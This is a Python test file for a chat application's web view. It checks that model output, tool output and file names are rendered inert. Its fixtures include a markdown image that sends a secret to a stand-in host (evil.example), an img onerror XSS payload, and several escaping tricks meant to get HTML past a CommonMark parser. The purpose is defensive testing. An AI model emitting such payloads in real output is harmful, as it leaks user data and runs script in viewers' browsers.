"""The web page shows what a model, a tool or a file wrote without rendering it: a
call's arguments, its result and a source's file name stay inside their code spans."""

from __future__ import annotations

from typing import Any

import pytest

from minichat.tools.base import ToolFunction
from minichat.tools.spec import Tool
from minichat.web.handlers import WebChat, sources_markdown
from tests.test_tools_calls import Caller, chat_with

IMAGE = "` ![x](http://evil.example/?q=secret) <img src=x onerror=alert(1)> `"


def test_calls_and_results_stay_in_their_code_spans() -> None:
    def leak(arguments: dict[str, Any]) -> str:
        return f"found {IMAGE}\n\n# heading"

    schema = {"type": "object", "properties": {"path": {"type": "string"}}}
    tool = ToolFunction(Tool("leak", "Read a file.", schema), leak)
    backend = Caller([[("leak", {"path": IMAGE})], "done"])
    session = chat_with(backend, [tool], choice="required")
    session.send("read it")
    shown = "\n".join(m["content"] for m in WebChat(session).messages())
    lines = [line for line in shown.splitlines() if "evil.example" in line]
    assert len(lines) == 2, shown
    for line in lines:  # one span from the first backtick to the last, nothing outside it
        assert line.startswith(("tool `", "→ `")) and line.endswith("`"), line
        assert line.count("`") == 2, line


def test_a_file_name_cannot_leave_its_code_span() -> None:
    shown = sources_markdown((f"[1] notes{IMAGE}.md",))
    assert shown.count("`") == 2 and shown.endswith("`")


def test_images_and_tags_from_a_model_are_shown_as_text_code_untouched() -> None:
    from minichat.web.inert import inert

    assert inert("see ![x](http://evil.example/?q=a) now") == (
        "see &#33;[x](http://evil.example/?q=a) now"
    )
    assert inert("<img src=http://evil.example/a> and <b>") == (
        "&lt;img src=http://evil.example/a> and &lt;b>"
    )
    assert inert("<http://evil.example>") == "&lt;http://evil.example>"
    unchanged = [
        "a < b and 2<3? no: 2 < 3",
        "[a link](http://example.com) stays a link",
        "```html\n<img src=x>\n![x](y)\n```\n",
        "inline `<img src=x>` and ``![x](y)``",
        "~~~\n<b>\n~~~",
    ]
    for text in unchanged:
        assert inert(text) == text, text
    fenced = "```\n<img src=x>\n```\nafter ![x](y)"
    assert inert(fenced) == "```\n<img src=x>\n```\nafter &#33;[x](y)"


@pytest.mark.parametrize(
    "text",
    [
        "\\<img src=http://evil.example/a>",  # a backslash before the tag
        "\\`<img src=http://evil.example/a>`",  # an escaped backtick opens no span
        "```x`\n<img src=http://evil.example/a>\n```",  # no fence: a backtick in its info
        "a `x\n\n<img src=http://evil.example/a> `y`",  # a span never crosses paragraphs
        "a `x\n# <img src=http://evil.example/a> `",  # nor a heading that ends one
        "\\![x](http://evil.example/a)",
        "```\ncode\n```python\n<img src=http://evil.example/a>",  # no closing: an info string
    ],
)
def test_tricks_that_would_render_a_tag_render_none(text: str) -> None:
    """Read by a CommonMark parser (markdown-it, as Rich has it), the result holds no
    image and no HTML outside code, whatever the trick (the first two got past an
    escaping with backslashes, the next three past a reading of code unlike the
    renderer's)."""
    from markdown_it import MarkdownIt

    from minichat.web.inert import inert

    def leaks(tokens: list[Any]) -> bool:
        for token in tokens:
            if token.type in ("image", "html_inline", "html_block"):
                return True
            if token.children and leaks(token.children):
                return True
        return False

    parser = MarkdownIt("commonmark")
    assert leaks(parser.parse("![x](http://evil.example/a) <img src=x>"))  # the check checks
    assert not leaks(parser.parse(inert(text))), inert(text)
